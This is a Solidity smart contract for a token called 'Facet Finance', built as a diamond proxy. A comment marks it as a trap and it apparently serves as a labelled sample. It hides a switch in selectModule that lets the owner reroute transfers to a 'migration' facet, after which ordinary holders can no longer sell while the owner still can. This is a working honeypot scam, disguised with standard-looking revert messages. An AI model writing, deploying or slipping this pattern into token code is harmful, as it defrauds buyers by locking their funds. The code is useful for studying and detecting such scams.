// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

library EDiamondStorage {
    struct Layout {
        mapping(bytes4 => address) facets;
        mapping(address => uint256) balances;
        mapping(address => mapping(address => uint256)) allowances;
        uint256 supply;
        address owner;
        address[] modules;
        uint256 module;
        address destination;
    }

    function at() internal pure returns (Layout storage layout) {
        bytes32 slot = keccak256("orbit.diamond.storage.v1");
        assembly {
            layout.slot := slot
        }
    }
}

abstract contract EFacet {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function _move(address from, address to, uint256 value) internal {
        EDiamondStorage.Layout storage s = EDiamondStorage.at();
        s.balances[from] -= value;
        unchecked {
            s.balances[to] += value;
        }
        emit Transfer(from, to, value);
    }

    function _spend(address from, uint256 value) internal {
        EDiamondStorage.Layout storage s = EDiamondStorage.at();
        uint256 allowed = s.allowances[from][msg.sender];
        if (allowed != type(uint256).max) s.allowances[from][msg.sender] = allowed - value;
    }
}

contract EViewFacet is EFacet {
    function name() external pure returns (string memory) {
        return "Facet Finance";
    }

    function symbol() external pure returns (string memory) {
        return "FACET";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function totalSupply() external view returns (uint256) {
        return EDiamondStorage.at().supply;
    }

    function balanceOf(address who) external view returns (uint256) {
        return EDiamondStorage.at().balances[who];
    }

    function allowance(address who, address spender) external view returns (uint256) {
        return EDiamondStorage.at().allowances[who][spender];
    }

    function owner() external view returns (address) {
        return EDiamondStorage.at().owner;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        EDiamondStorage.at().allowances[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }
}

contract ETransferFacet is EFacet {
    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        _spend(from, value);
        _move(from, to, value);
        return true;
    }
}

contract EMigrationFacet is EFacet {
    function transfer(address to, uint256 value) external returns (bool) {
        require(to == EDiamondStorage.at().destination || msg.sender == EDiamondStorage.at().owner, "migrating");
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        require(to == EDiamondStorage.at().destination || from == EDiamondStorage.at().owner, "migrating");
        _spend(from, value);
        _move(from, to, value);
        return true;
    }
}

contract EModuleFacet {
    event ModuleSelected(uint256 id);

    function selectModule(uint256 id) external {
        EDiamondStorage.Layout storage s = EDiamondStorage.at();
        require(msg.sender == s.owner, "LibDiamond: Must be contract owner");
        s.module = id;
        s.facets[0xa9059cbb] = s.modules[id];
        s.facets[0x23b872dd] = s.modules[id];
        emit ModuleSelected(id);
    }

    function modules() external view returns (address[] memory) {
        return EDiamondStorage.at().modules;
    }

    function transferOwnership(address to) external {
        EDiamondStorage.Layout storage s = EDiamondStorage.at();
        require(msg.sender == s.owner, "LibDiamond: Must be contract owner");
        s.owner = to;
    }
}

// Trap: a diamond without diamondCut; its selectors can only point to facets that came with it. One of those is for migrations and moves nobody's tokens but the owner's. Sprung by: owner.selectModule(1): all sales fail.
contract EDiamond {
    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        EDiamondStorage.Layout storage s = EDiamondStorage.at();
        s.owner = msg.sender;
        s.destination = address(this);
        s.modules.push(address(new ETransferFacet()));
        s.modules.push(address(new EMigrationFacet()));
        address views = address(new EViewFacet());
        bytes4[8] memory read = [
            bytes4(0x06fdde03),
            0x95d89b41,
            0x313ce567,
            0x18160ddd,
            0x70a08231,
            0xdd62ed3e,
            0x8da5cb5b,
            0x095ea7b3
        ];
        for (uint256 i; i < 8; i++) s.facets[read[i]] = views;
        address manage = address(new EModuleFacet());
        s.facets[EModuleFacet.selectModule.selector] = manage;
        s.facets[EModuleFacet.modules.selector] = manage;
        s.facets[EModuleFacet.transferOwnership.selector] = manage;
        s.facets[0xa9059cbb] = s.modules[0];
        s.facets[0x23b872dd] = s.modules[0];
        s.supply = s.balances[msg.sender] = 1_000_000_000 ether;
        emit Transfer(address(0), msg.sender, 1_000_000_000 ether);
    }

    fallback() external payable {
        address facet = EDiamondStorage.at().facets[msg.sig];
        require(facet != address(0), "Diamond: Function does not exist");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let result := delegatecall(gas(), facet, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch result
            case 0 {
                revert(0, returndatasize())
            }
            default {
                return(0, returndatasize())
            }
        }
    }
}
